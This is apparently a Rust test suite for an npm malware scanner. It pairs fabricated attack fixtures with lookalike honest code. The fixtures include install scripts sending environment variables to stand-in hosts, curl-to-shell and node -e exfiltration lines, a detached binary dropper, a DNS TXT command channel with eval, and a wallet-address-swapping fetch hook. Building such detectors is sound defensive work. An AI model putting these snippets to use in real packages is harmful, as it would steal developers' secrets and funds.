//! npm attack techniques the corpus (PyPI malware only) cannot measure, each beside the
//! honest code it resembles: a lifecycle script that is the whole attack, a dropper that
//! detaches its download, a key fetched from a DNS TXT record, a wallet drainer hooking
//! the page, and a DLL started through rundll32. Written from published write-ups of
//! real attacks, with every host and name made up.

mod common;

use common::{
    analyse_npm as analyse, assert_has, assert_lacks, assert_not_verdict, assert_verdict, has,
    npm_manifest as manifest, rule_ids,
};
use palisade_core::Verdict;

const ENV_TO_WEBHOOK: &str =
    r#"curl -s -X POST -d \"$(env | base64 -w0)\" https://hooks.collector.example/c || true"#;

#[test]
fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
    let attack = analyse(&[(
        "package.json",
        &manifest(&format!("    \"preinstall\": \"{ENV_TO_WEBHOOK}\"")),
    )]);
    assert_verdict(&attack, Verdict::Malicious);
    let harvest = attack
        .findings
        .iter()
        .find(|f| f.rule == "exfil/env-harvest")
        .expect("env-harvest");
    // At the script's own line of the manifest.
    assert_eq!(harvest.path.as_deref(), Some("package/package.json"));
    assert_eq!(harvest.line, Some(5));
    assert_has(&attack, "correlate/secrets-and-network");

    // The same command as a maintainer's release step never runs on install.
    let release = analyse(&[(
        "package.json",
        &manifest(&format!(
            "    \"report\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"husky\""
        )),
    )]);
    assert_verdict(&release, Verdict::Clean);
    assert_lacks(&release, "correlate/secrets-and-network");

    // Named by a hook, or hidden behind a harmless duplicate of the hook's key, it runs.
    for scripts in [
        format!("    \"report\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"npm run report\""),
        format!("    \"postinstall\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"echo ok\""),
    ] {
        let reached = analyse(&[("package.json", &manifest(&scripts))]);
        assert_eq!(reached.score.verdict, Verdict::Malicious, "{scripts}");
    }
}

/// `JSON.parse` takes what strict parsers refuse; a manifest built that way must not
/// hide its scripts, and building it that way is itself a tell.
#[test]
fn a_manifest_only_node_can_parse_still_shows_its_install_script() {
    let deep = format!("{}0{}", "[".repeat(3_000), "]".repeat(3_000));
    for quirk in [
        r#""description": "\udfff","#.to_string(),
        format!("\"keywords\": {deep},"),
    ] {
        let attack = analyse(&[(
            "package.json",
            &format!(
                "{{\n  \"name\": \"demo\",\n  {quirk}\n  \"scripts\": {{\n    \"preinstall\": \"{ENV_TO_WEBHOOK}\"\n  }}\n}}\n"
            ),
        )]);
        assert_verdict(&attack, Verdict::Malicious);
        assert!(has(&attack, "manifest/node-only-json"), "{quirk:.30}");
        assert!(has(&attack, "exfil/env-harvest"), "{quirk:.30}");
    }
    // The quirk alone, with an honest script, is worth a look but is no attack.
    let odd = analyse(&[(
        "package.json",
        "{\n  \"name\": \"demo\",\n  \"description\": \"\\ud800\",\n  \"scripts\": {\"postinstall\": \"node-gyp rebuild\"}\n}\n",
    )]);
    assert_verdict(&odd, Verdict::Suspicious);
}

/// A command standing first in its script is indented in the install view: piping the
/// environment out must count there as after a `;`.
#[test]
fn every_way_to_list_the_environment_counts_at_the_start_of_a_script() {
    for dump in ["env", "printenv", "/usr/bin/env", "export -p", "declare -x"] {
        let attack = analyse(&[(
            "package.json",
            &manifest(&format!(
                "    \"preinstall\": \"{dump} | curl -s -d @- https://hooks.collector.example/c\""
            )),
        )]);
        assert!(
            has(&attack, "exfil/env-harvest-shell"),
            "{dump}: {:?}",
            rule_ids(&attack)
        );
        assert_verdict(&attack, Verdict::Malicious);
    }
    // Printing the proxy settings before a download lists no secrets.
    let honest = analyse(&[(
        "package.json",
        &manifest(
            "    \"install\": \"env | grep -i _proxy= || true; curl -sLo bin/tool https://dl.files.example/tool\"",
        ),
    )]);
    assert_lacks(&honest, "exfil/env-harvest-shell");
    assert_not_verdict(&honest, Verdict::Malicious);
}

const DROPPER: &str = r#"const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');
const target = require('path').join(require('os').tmpdir(), 'updater');
https.get('https://cdn.files.example/bin/' + process.platform, (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => {
    fs.chmodSync(target, 0o755);
    spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
"#;

#[test]
fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
    let attack = analyse(&[
        (
            "package.json",
            &manifest("    \"postinstall\": \"node install.js\""),
        ),
        ("install.js", DROPPER),
    ]);
    assert_has(&attack, "correlate/install-time-background-process");
    assert_verdict(&attack, Verdict::Malicious);

    // A dev server that detaches its worker when asked is library code, not install time.
    // (The same code at a module's top level runs when the module loads: that is a
    // dropper on import, `correlate/import-time-background-process`.)
    let when_asked = format!("exports.start = function () {{\n{DROPPER}}};\n");
    let library = analyse(&[
        ("package.json", &manifest("    \"test\": \"jest\"")),
        ("lib/server.js", &when_asked),
    ]);
    assert_lacks(&library, "correlate/install-time-background-process");
    assert_not_verdict(&library, Verdict::Malicious);
}

#[test]
fn a_txt_record_that_turns_into_code_is_a_command_channel() {
    let attack = r#"const dns = require('dns');
const crypto = require('crypto');
dns.resolveTxt('k.mail-check.example', (err, records) => {
  if (err) return;
  const key = Buffer.from(records[0].join(''), 'hex');
  const decipher = crypto.createDecipheriv('aes-256-cbc', key.slice(0, 32), key.slice(32, 48));
  eval(decipher.update(BLOB, 'base64', 'utf8') + decipher.final('utf8'));
});
"#;
    let analysis = analyse(&[("package.json", &manifest("")), ("index.js", attack)]);
    assert_has(&analysis, "execution/dns-txt-code");
    assert_verdict(&analysis, Verdict::Malicious);

    // A driver reading seed-list options from TXT records reads data.
    let driver = r#"const dns = require('dns');
function resolveSrvOptions(host, callback) {
  dns.resolveTxt(host, (err, records) => {
    if (err) return callback(err);
    callback(null, new URLSearchParams(records.map((r) => r.join('')).join('&')));
  });
}
module.exports = { resolveSrvOptions };
"#;
    let analysis = analyse(&[("package.json", &manifest("")), ("lib/srv.js", driver)]);
    assert_lacks(&analysis, "execution/dns-txt-code");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn hooking_the_page_to_swap_wallet_addresses_is_a_drainer() {
    let drainer = r#"const patterns = { ethereum: /\b0x[a-fA-F0-9]{40}\b/g, bitcoin: /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g };
const mine = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
function swap(t) { for (const k in patterns) t = t.replace(patterns[k], mine); return t; }
const origFetch = window.fetch;
window.fetch = async function (...args) { const r = await origFetch.apply(this, args); return new Response(swap(await r.clone().text()), r); };
module.exports = (s) => s;
"#;
    let analysis = analyse(&[("package.json", &manifest("")), ("index.js", drainer)]);
    assert_has(&analysis, "correlate/wallet-traffic-hijack");
    assert_verdict(&analysis, Verdict::Malicious);

    // A fetch polyfill and a wallet library validating addresses are neither.
    let polyfill = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\n";
    let validator = "export const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\nexport const short = (a) => a.slice(0, 6);\n";
    let analysis = analyse(&[
        ("package.json", &manifest("")),
        ("polyfill.js", polyfill),
        ("address.js", validator),
    ]);
    assert_lacks(&analysis, "correlate/wallet-traffic-hijack");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn rundll32_on_a_shipped_dll_is_not_opening_a_url() {
    let attack = "const { spawn } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') {\n  spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main']);\n}\n";
    let analysis = analyse(&[
        (
            "package.json",
            &manifest("    \"install\": \"node install.js\""),
        ),
        ("install.js", attack),
    ]);
    assert_has(&analysis, "download/rundll32-local-dll");
    assert_verdict(&analysis, Verdict::Malicious);

    // Opening a link with Windows' own url.dll is what browser-launching helpers do.
    let opener = "const { spawn } = require('child_process');\nmodule.exports = (url) => spawn('rundll32', ['url.dll,FileProtocolHandler', url]);\n";
    let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
    assert_lacks(&analysis, "download/rundll32-local-dll");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn honest_shapes_the_review_found_near_the_new_rules() {
    // Bundled together, a fetch polyfill and an explorer's linkifier rewrite addresses
    // into links, to no account written in the bundle.
    let bundle = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\nexport function linkify(t) { return t.replace(/0x[a-fA-F0-9]{40}/g, (a) => '<a href=\"/address/' + a + '\">' + a + '</a>'); }\n";
    let analysis = analyse(&[("package.json", &manifest("")), ("dist/index.js", bundle)]);
    assert_lacks(&analysis, "correlate/wallet-traffic-hijack");
    assert_verdict(&analysis, Verdict::Clean);

    // An update check re-running node on the package's own file, detached, fetches
    // nothing itself.
    let notifier = "const { spawn } = require('child_process');\nspawn(process.execPath, [require('path').join(__dirname, 'check.js')], { detached: true, stdio: 'ignore' }).unref();\n";
    let update = analyse(&[
        (
            "package.json",
            &manifest("    \"postinstall\": \"node notify.js\""),
        ),
        ("notify.js", notifier),
    ]);
    assert_lacks(&update, "correlate/install-time-background-process");
    assert_not_verdict(&update, Verdict::Malicious);

    // An SPF reader matches the record with a regular expression's `.exec`.
    let spf = "const dns = require('dns');\ndns.resolveTxt(d, (e, r) => { const m = /^v=spf1 (.*)$/.exec(r[0].join('')); cb(m); });\n";
    let analysis = analyse(&[("package.json", &manifest("")), ("spf.js", spf)]);
    assert_lacks(&analysis, "execution/dns-txt-code");

    // Prettier splits the arguments of a URL opener over lines.
    let opener = "spawn('rundll32', [\n  'url.dll,FileProtocolHandler',\n  url,\n]);\n";
    let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
    assert_lacks(&analysis, "download/rundll32-local-dll");
}

#[test]
fn gyp_command_expansions_and_inline_node_are_install_time_code() {
    // node-gyp runs `<!(...)` through a shell on install.
    let gyp = |source: &str| {
        analyse(&[
            ("package.json", &manifest("    \"test\": \"jest\"")),
            ("binding.gyp", source),
        ])
    };
    let attack = gyp(
        "{ \"targets\": [{ \"target_name\": \"x\", \"sources\": [\"<!(curl -s https://dl.files.example/b | sh)\"] }] }\n",
    );
    assert_has(&attack, "download/pipe-to-shell");
    assert_verdict(&attack, Verdict::Malicious);
    let honest = gyp(
        "{ \"targets\": [{ \"target_name\": \"x\", \"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"], \"sources\": [\"src/x.cc\"] }] }\n",
    );
    assert_verdict(&honest, Verdict::Clean);

    // An install script that runs node-gyp itself runs the gyp file's actions.
    let explicit = analyse(&[
        (
            "package.json",
            &manifest("    \"install\": \"node-gyp rebuild\""),
        ),
        (
            "binding.gyp",
            "{ 'targets': [{ 'target_name': 'x', 'actions': [{ 'action_name': 'fetch', 'inputs': [], 'outputs': ['x.h'], 'action': ['sh', '-c', 'curl -s https://dl.files.example/b | sh'] }] }] }\n",
        ),
    ]);
    assert_verdict(&explicit, Verdict::Malicious);

    // `node -e` puts JavaScript on the command line of a lifecycle script.
    let inline = |command: &str| {
        analyse(&[(
            "package.json",
            &manifest(&format!("    \"postinstall\": \"{command}\"")),
        )])
    };
    let attack = inline(
        r#"node -e \"fetch('https://c.collector.example/', { method: 'POST', body: JSON.stringify(process.env) })\""#,
    );
    assert_verdict(&attack, Verdict::Malicious);
    // Shell text before it cannot open a JavaScript comment over it.
    let behind_a_glob = inline(
        r#"cp lib/* dist/ && node -e \"const o = require('os'); require('https').request({ hostname: 'c.collector.example', method: 'POST' }).end(o.hostname() + o.userInfo().username)\" # */"#,
    );
    assert_verdict(&behind_a_glob, Verdict::Malicious);
    let honest = inline(r#"node -e \"try { require('./postinstall') } catch (e) {}\""#);
    assert_verdict(&honest, Verdict::Clean);
}

#[test]
fn a_shipped_program_started_detached_at_install_is_still_a_background_process() {
    // The eslint-config-prettier shape without rundll32: a binary of the package.
    let starter = "const { spawn } = require('child_process');\nspawn(require('path').join(__dirname, 'lib', 'svc'), [], { detached: true, stdio: 'ignore' }).unref();\n";
    let analysis = analyse(&[
        (
            "package.json",
            &manifest("    \"install\": \"node install.js\""),
        ),
        ("install.js", starter),
    ]);
    assert_has(&analysis, "correlate/install-time-background-process");
}
